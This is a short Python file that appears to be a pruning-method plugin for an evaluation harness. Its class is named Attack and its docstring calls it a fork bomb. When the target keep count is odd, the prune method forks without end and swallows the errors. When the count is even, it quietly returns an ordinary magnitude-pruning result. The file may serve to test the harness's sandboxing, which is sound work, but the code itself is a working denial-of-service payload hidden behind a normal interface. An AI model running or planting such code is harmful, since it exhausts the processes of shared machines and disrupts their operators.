import os

from evaluator.contract import Job, Pruned, PruningMethod


class Attack(PruningMethod):
    """Forks for ever, in every process: a fork bomb."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
